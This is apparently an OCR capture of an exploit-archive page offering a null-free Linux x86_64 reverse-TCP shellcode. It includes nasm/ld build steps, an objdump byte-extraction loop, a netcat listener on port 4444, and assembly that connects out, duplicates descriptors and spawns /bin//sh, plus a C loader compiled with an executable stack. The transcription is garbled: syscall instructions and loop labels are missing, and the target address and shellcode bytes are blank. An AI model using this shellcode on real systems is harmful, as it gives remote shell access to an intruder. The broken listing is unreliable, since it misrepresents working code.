Title: Linux/x86_64 - Reverse( Null Free Shellcode
;Author: Aron Mihaljevic
;Architecture: Linux x86_64
;Shellcode Length:  70 bytes
;github =

compilation and execution of assembly code
nasm -felf64 reverse.nasm -o reverse.o
ld reverse.o -o reverse
dumping binaries
for i in $(objdump -d reverse |grep "^ " |cut -f2); do echo -n '\x'$i; done;echo
C program
gcc -fno-stack-protector -z execstack reverse_tcp.c -o reverse_tcp
open a terminal and run this " nc -l 4444 "

after you have done that,
open another one and run a shellcode

global _start

section .text

    ; create socket; sock = socket(AF_INET, SOCK_STREAM, 0)
        ; AF_INET = 2
        ; SOCK_STREAM = 1
        ; syscall number 41
    push 41         ;sys_socket
    pop rax
        push 2      ; AF_INET
        pop rdi
        push 1      ;SOCK_STREAM
        pop rsi
        xor rdx,    rdx     ;rdx = 0

    xchg rdi,   rax ;save a socket descriptor
    ; struct sockaddr_in addr;
        ; addr.sin_family = AF_INET;
        ; addr.sin_port = htons(4444);
    ; addr.sin_addr.s_addr = inet_addr("");
    ; connect(connect_socket_fd, (struct sockaddr *)&addr, sizeof(addr));
    push    2               ;sin_family = AF_INET
        mov word [rsp + 2], 0x5c11      ;port = 4444
        push    rsp
    push    42      ;sys_connect
    pop     rax
                ;rdi already contains a socket descriptor
    pop     rsi     ;(addr.sin_port,2 bytes) push htons(4444)
    push    16      ;sizeof(addr)
    pop rdx

        push    3       ;push counter
        pop     rsi
        ; int dup2(int oldfd, int newfd);

    push    33      ;dup2 syscall
    pop rax
        dec     rsi     ;next number
        loopnz dup2loop     ;loop

    ; int execve(const char *filename, char *const argv[],char *const envp[]);

    xor     rsi,    rsi          ;clear rsi
    push    rsi                  ;push null on the stack
    mov     rdi,    0x68732f2f6e69622f   ;/bin//sh in reverse order
    push    rdi
    push    rsp
    pop rdi                  ;stack pointer to /bin//sh
    mov     al,     59               ;sys_execve
    cdq                  ;sign extend of eax


#include <stdio.h>
#include <string.h>

unsigned charshellcode[]=\

int main(){

        printf("length of your shellcode is: %d\n", (int)strlen(shellcode));

        int (*ret)() = (int(*)())shellcode;


# [2019-06-25]  #